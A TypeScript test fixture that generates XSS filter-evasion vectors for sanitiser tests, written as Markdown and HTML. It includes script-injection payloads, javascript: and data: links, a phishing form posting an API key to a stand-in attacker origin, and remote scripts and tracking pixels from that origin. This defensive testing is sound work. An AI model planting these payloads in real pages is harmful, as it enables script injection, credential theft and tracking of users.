// Hostile Markdown and HTML, for the tests of what the browser renders: classic vectors from
// the OWASP XSS filter-evasion cheat sheet, a phishing form, CSS that would restyle the app,
// remote images (tracking pixels) and javascript:/data: links. A vector that runs sets
// `window.hostileRan`; one that loads something asks `evil` (another origin) for it.

export interface HostileVector {
  name: string;
  markup: string;
}

/** What a vector's script does when it runs: the tests read the flag. */
const ran = (name: string) => `window.hostileRan='${name}'`;

/** Every vector; `evil` is an origin such as "http://127.0.0.1:4100" that counts what it is asked for. */
export function hostileVectors(evil: string): HostileVector[] {
  const evilHost = new URL(evil).host;
  return [
    { name: 'script element', markup: `<script>${ran('script')}</script>` },
    { name: 'remote script', markup: `<SCRIPT SRC=${evil}/xss.js></SCRIPT>` },
    { name: 'nested script', markup: `<<SCRIPT>${ran('nested')};//<</SCRIPT>` },
    { name: 'malformed quotes', markup: `<IMG """><SCRIPT>${ran('quotes')}</SCRIPT>">` },
    { name: 'img javascript src', markup: `<IMG SRC="javascript:${ran('img-js')}">` },
    { name: 'img onerror', markup: `<img src=x onerror="${ran('onerror')}">` },
    { name: 'img onmouseover', markup: `<IMG SRC=# onmouseover="${ran('onmouseover')}">` },
    { name: 'svg onload', markup: `<svg onload="${ran('svg-onload')}"><circle r="5"></circle></svg>` },
    { name: 'svg script', markup: `<svg><script>${ran('svg-script')}</script></svg>` },
    {
      name: 'svg javascript link',
      markup: `<svg><a xlink:href="javascript:${ran('svg-link')}"><text x="20" y="20">svg link</text></a></svg>`,
    },
    { name: 'svg use', markup: `<svg><use href="${evil}/sprite.svg#icon"></use></svg>` },
    { name: 'iframe javascript src', markup: `<iframe src="javascript:parent.hostileRan='iframe'"></iframe>` },
    { name: 'iframe srcdoc', markup: `<iframe srcdoc="<script>parent.hostileRan='srcdoc'</script>"></iframe>` },
    { name: 'iframe remote', markup: `<iframe src="${evil}/frame.html"></iframe>` },
    { name: 'tab in javascript link', markup: `<a href="jav&#x09;ascript:${ran('tab-link')}">tab link</a>` },
    { name: 'carriage return in javascript link', markup: `<a href="jav&#x0D;ascript:${ran('cr-link')}">cr link</a>` },
    { name: 'javascript link', markup: `<a href="javascript:${ran('js-link')}">js link</a>` },
    {
      name: 'entity-encoded javascript link',
      markup: `<a href="&#106;&#97;&#118;&#97;&#115;&#99;&#114;&#105;&#112;&#116;&#58;${ran('entity-link')}">entity link</a>`,
    },
    { name: 'markdown javascript link', markup: `[markdown js link](javascript:window.hostileRan='md-link')` },
    { name: 'vbscript link', markup: '<a href="vbscript:msgbox(1)">vbscript link</a>' },
    { name: 'data html link', markup: '<a href="data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==">data link</a>' },
    { name: 'markdown data link', markup: `[markdown data link](data:text/html,<script>${ran('md-data')}</script>)` },
    { name: 'body onload', markup: `<body onload="${ran('body')}">` },
    { name: 'details ontoggle', markup: `<details open ontoggle="${ran('ontoggle')}"><summary>details</summary></details>` },
    { name: 'autofocus onfocus', markup: `<input autofocus onfocus="${ran('autofocus')}">` },
    { name: 'marquee onstart', markup: `<marquee onstart="${ran('marquee')}">marquee</marquee>` },
    {
      name: 'mXSS through math and style',
      markup: `<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;/mglyph&gt;&lt;img&Tab;src=1&Tab;onerror=${ran('mxss')}&gt;">`,
    },
    { name: 'noscript attribute breakout', markup: `<noscript><p title="</noscript><img src=x onerror=${ran('noscript')}>"></noscript>` },
    { name: 'conditional comment', markup: `<!--[if gte IE 4]><script>${ran('conditional')}</script><![endif]-->` },
    { name: 'object remote data', markup: `<object data="${evil}/object.swf"></object>` },
    { name: 'object javascript data', markup: `<object data="javascript:${ran('object')}"></object>` },
    { name: 'embed', markup: `<embed src="${evil}/embed.swf">` },
    { name: 'meta refresh', markup: `<meta http-equiv="refresh" content="0;url=${evil}/refresh">` },
    { name: 'base href', markup: `<base href="${evil}/">` },
    { name: 'remote stylesheet', markup: `<link rel="stylesheet" href="${evil}/evil.css">` },
    { name: 'style import', markup: `<style>@import '${evil}/import.css';</style>` },
    {
      name: 'style restyling the app',
      markup: '<style>body{background:rgb(255,0,0)!important;font-family:fantasy!important} header{display:none!important}</style>',
    },
    {
      name: 'overlay with a remote background',
      markup: `<div style="background-image:url(${evil}/bg.png);position:fixed;inset:0;z-index:9999">overlay</div>`,
    },
    { name: 'CSS expression', markup: `<div style="width: expression(${ran('expression')});">expression</div>` },
    { name: 'CSS behavior', markup: `<xss style="behavior: url(${evil}/xss.htc);">behavior</xss>` },
    {
      name: 'phishing form',
      markup: `<form action="${evil}/steal" method="post"><p>Your session expired. Enter your API key:</p><input name="apiKey" type="password"><button>Sign in</button></form>`,
    },
    { name: 'button formaction', markup: `<button formaction="${evil}/steal">Continue</button>` },
    { name: 'remote image', markup: `<img src="${evil}/pixel.png" alt="tracking pixel">` },
    { name: 'markdown remote image', markup: `![markdown pixel](${evil}/md-pixel.png)` },
    { name: 'protocol-relative image', markup: `![relative pixel](//${evilHost}/relative-pixel.png)` },
    { name: 'srcset image', markup: `<img src="data:image/gif;base64,R0lGODlhAQABAAAAACw=" srcset="${evil}/srcset.png 1x" alt="srcset">` },
    { name: 'table background', markup: `<table background="${evil}/table.png"><tr><td>cell</td></tr></table>` },
    { name: 'video poster', markup: `<video src="${evil}/video.mp4" poster="${evil}/poster.png"></video>` },
    { name: 'audio', markup: `<audio src="${evil}/audio.mp3" autoplay></audio>` },
    { name: 'DOM clobbering', markup: '<a id="main" name="main">clobber</a><img name="getElementById">' },
    { name: 'template', markup: `<template><script>${ran('template')}</script></template>` },
  ];
}

/** All vectors as one Markdown document, each in a paragraph of its own, after a benign part that must still render. */
export function hostileDocument(evil: string): string {
  const vectors = hostileVectors(evil).map((vector) => vector.markup);
  return [benignMarkdown, ...vectors].join('\n\n');
}

/** What Markdown legitimately needs: it must survive the sanitiser. */
export const benignMarkdown = [
  '# Balcony composting',
  'Worms, **bokashi** and *patience*: see [the guide](https://example.com/guide) or [write to us](mailto:hello@example.com).',
  '- small bins\n- big results',
  '| Method | Weeks |\n| --- | --- |\n| Worms | 12 |',
  '`code` and\n\n```\nblock\n```',
  '![a green dot](data:image/gif;base64,R0lGODlhAQABAIAAAAAA/wAAACH5BAEAAAEALAAAAAABAAEAAAICRAEAOw==)',
].join('\n\n');
